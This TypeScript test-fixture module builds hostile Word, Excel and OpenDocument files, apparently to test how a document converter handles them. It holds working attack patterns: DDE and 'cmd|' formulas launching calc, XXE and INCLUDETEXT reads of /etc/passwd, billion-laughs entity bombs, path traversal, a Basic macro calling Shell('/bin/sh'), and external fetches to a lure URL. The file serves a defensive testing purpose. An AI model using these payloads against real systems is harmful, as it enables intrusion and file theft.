import { makeOle, makeZip } from '../files.ts'
import { type HostileFile, type Lure, filesOf } from './hostile-file.ts'

const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const sheet = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packages = 'http://schemas.openxmlformats.org/package/2006'

type Relation = readonly [type: string, target: string, inside?: 'inside']
type Part = { readonly name: string; readonly content: string | Buffer }

function relations(list: readonly Relation[]): string {
  const lines = list.map(
    ([type, target, mode], index) =>
      `<Relationship Id="r${index + 1}" Type="${type.startsWith('http') ? type : `${relationships}/${type}`}" Target="${target}"${mode === 'inside' ? '' : ' TargetMode="External"'}/>`,
  )
  return `${xml}<Relationships xmlns="${packages}/relationships">${lines.join('')}</Relationships>`
}

function office(
  main: string,
  type: string,
  content: string,
  links: readonly Relation[],
  parts: readonly Part[],
): Buffer {
  const [folder, file] = main.split('/')
  return makeZip([
    {
      name: '[Content_Types].xml',
      content: `${xml}<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="html" ContentType="text/html"/><Default Extension="png" ContentType="image/png"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`,
    },
    { name: '_rels/.rels', content: relations([['officeDocument', main, 'inside']]) },
    { name: main, content },
    { name: `${folder}/_rels/${file}.rels`, content: relations(links) },
    ...parts,
  ])
}

function document(
  body: string,
  links: readonly Relation[] = [],
  parts: readonly Part[] = [],
  before = '',
): Buffer {
  const content = `${xml}${before}<w:document xmlns:w="${word}" xmlns:r="${relationships}"><w:body>${body}<w:p><w:r><w:t>hostile</w:t></w:r></w:p></w:body></w:document>`
  return office('word/document.xml', 'wordprocessingml.document', content, links, parts)
}

function workbook(
  rows: string,
  links: readonly Relation[] = [],
  parts: readonly Part[] = [],
  before = '',
): Buffer {
  const content = `${xml}${before}<workbook xmlns="${sheet}" xmlns:r="${relationships}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets>${links.length > 0 ? '<externalReferences><externalReference r:id="r2"/></externalReferences>' : ''}</workbook>`
  const data = `${xml}<worksheet xmlns="${sheet}">${rows}</worksheet>`
  return office(
    'xl/workbook.xml',
    'spreadsheetml.sheet',
    content,
    [['worksheet', 'worksheets/sheet1.xml', 'inside'], ...links],
    [{ name: 'xl/worksheets/sheet1.xml', content: data }, ...parts],
  )
}

const picture = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="2000000" cy="2000000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="r1"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
const field = (code: string): string =>
  `<w:p><w:fldSimple w:instr="${code}"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>`
const laughs = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY e0 "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join('')}]>`
const cell = (formula: string): string =>
  `<sheetData><row r="1"><c r="A1"><f>${formula}</f></c></row></sheetData>`

/** Word, Excel and OpenDocument files that call, run, include, swell or go in circles. */
export function hostileOffice({ url }: Lure): HostileFile[] {
  const odf = (format: string, content: string, parts: readonly Part[] = []): Buffer =>
    makeZip([
      { name: 'mimetype', content: `application/vnd.oasis.opendocument.${format}`, stored: true },
      { name: 'content.xml', content },
      {
        name: 'META-INF/manifest.xml',
        content: `${xml}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${format}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
      },
      ...parts,
    ])
  const body = (kind: string, inside: string, before = ''): string =>
    `${xml}${before}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2"><office:body><office:${kind}>${inside}</office:${kind}></office:body></office:document-content>`
  const linked = (href: string): string =>
    `<text:p>hostile<draw:frame text:anchor-type="as-char"><draw:image xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`
  return [
    ...filesOf('docx', {
      外の画像: ['pages', document(picture, [['image', `${url}/docx.png`]])],
      手元の画像: ['pages', document(picture, [['image', 'file:///etc/passwd']])],
      外のひな形: ['pages', document('', [['attachedTemplate', `${url}/template.dotm`]])],
      外の部分: document('<w:altChunk r:id="r1"/>', [['aFChunk', `${url}/chunk.html`]]),
      取り込む欄: [
        'pages',
        document(
          `${field(`INCLUDEPICTURE &quot;${url}/field.png&quot; \\d`)}${field('INCLUDETEXT &quot;/etc/passwd&quot;')}${field('DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;')}`,
        ),
      ],
      実体の爆弾: document('<w:p><w:r><w:t>&e9;</w:t></w:r></w:p>', [], [], laughs('w:document')),
      外の実体: document(
        '<w:p><w:r><w:t>&e;</w:t></w:r></w:p>',
        [],
        [],
        `<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % f SYSTEM "${url}/dtd"> %f;]>`,
      ),
      マクロ: [
        'pages',
        document(
          '',
          [['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin', 'inside']],
          [{ name: 'word/vbaProject.bin', content: Buffer.alloc(2000, 7) }],
        ),
      ],
      中の実行形式: document(
        '',
        [['oleObject', 'embeddings/a.bin', 'inside']],
        [{ name: 'word/embeddings/a.bin', content: 'MZ' }],
      ),
      深い表: document(
        `${'<w:tbl><w:tr><w:tc>'.repeat(40)}<w:p/>${'</w:tc></w:tr></w:tbl><w:p/>'.repeat(40)}`,
      ),
      膨らむ部品: [
        'refused',
        document('', [], [{ name: 'word/media/a.png', content: Buffer.alloc(80_000_000) }]),
      ],
      本文のない文書: makeZip([
        {
          name: '[Content_Types].xml',
          content: '<Types><Override ContentType="wordprocessingml.document.main+xml"/></Types>',
        },
      ]),
      外へ出る部品: [
        'pages',
        document(
          '',
          [['image', '../../../../etc/passwd', 'inside']],
          [{ name: '../../../tmp/kessai-part', content: 'x' }],
        ),
      ],
      中身はHTML: `<html><body>hostile<img src="${url}/fake.png"><iframe src="file:///etc/passwd"></iframe></body></html>`,
      中身はスクリプト: '#!/bin/sh\ncurl http://127.0.0.1/\n',
    }),
    ...filesOf('xlsx', {
      外を呼ぶ関数: ['pages', workbook(cell(`WEBSERVICE(&quot;${url}/webservice&quot;)`))],
      命令の数式: ['pages', workbook(cell('cmd|&apos;/c calc&apos;!A1'))],
      外の表: workbook(
        cell('[1]A!A1'),
        [['externalLink', 'externalLinks/e.xml', 'inside']],
        [
          {
            name: 'xl/externalLinks/e.xml',
            content: `${xml}<externalLink xmlns="${sheet}" xmlns:r="${relationships}"><externalBook r:id="r1"/></externalLink>`,
          },
          {
            name: 'xl/externalLinks/_rels/e.xml.rels',
            content: relations([['externalLinkPath', `${url}/book.xlsx`]]),
          },
        ],
      ),
      円環の数式: [
        'pages',
        workbook(
          '<sheetData><row r="1"><c r="A1"><f>B1+1</f></c><c r="B1"><f>A1+1</f></c></row></sheetData>',
        ),
      ],
      最後の列: ['pages', workbook('<sheetData><row r="1"><c r="XFD1"><v>1</v></c></row></sheetData>')],
      最後の行: [
        'pages',
        workbook('<sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'),
      ],
      広い列: workbook(
        '<cols><col min="1" max="16384" width="255" customWidth="1"/></cols><sheetData><row r="1" ht="409" customHeight="1"><c r="A1"><v>1</v></c></row></sheetData>',
      ),
      実体の爆弾の表: workbook('', [], [], laughs('workbook')),
    }),
    ...filesOf('odt', {
      外の画像の文書: ['pages', odf('text', body('text', linked(`${url}/odt.png`)))],
      手元の画像の文書: ['pages', odf('text', body('text', linked('file:///etc/passwd')))],
      外の節: odf(
        'text',
        body(
          'text',
          `<text:section text:name="s"><text:section-source xlink:href="${url}/section.odt"/><text:p>hostile</text:p></text:section>`,
        ),
      ),
      動くマクロ: odf('text', body('text', '<text:p>hostile</text:p>'), [
        {
          name: 'Basic/Standard/M.xml',
          content: '<script:module>Sub Main\nShell("/bin/sh")\nEnd Sub</script:module>',
        },
      ]),
      実体の爆弾の文書: odf('text', body('text', '<text:p>&e9;</text:p>', laughs('office:document-content'))),
    }),
    ...filesOf('ods', {
      外の表の式: odf(
        'spreadsheet',
        body(
          'spreadsheet',
          `<table:table table:name="A"><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${url}/ods&quot;)" office:value-type="float"/></table:table-row></table:table>`,
        ),
      ),
    }),
    ...filesOf('doc', { 空の旧文書: makeOle([{ name: 'WordDocument', start: Buffer.alloc(512) }]) }),
    ...filesOf('xls', { 空の旧表: makeOle([{ name: 'Workbook', start: Buffer.alloc(512) }]) }),
    ...filesOf('ppt', {
      空の旧スライド: makeOle([{ name: 'PowerPoint Document', start: Buffer.alloc(512) }]),
    }),
    ...filesOf('docx', {
      鍵の付いた文書: ['encrypted', makeOle([{ name: 'EncryptedPackage' }, { name: 'EncryptionInfo' }])],
    }),
  ]
}
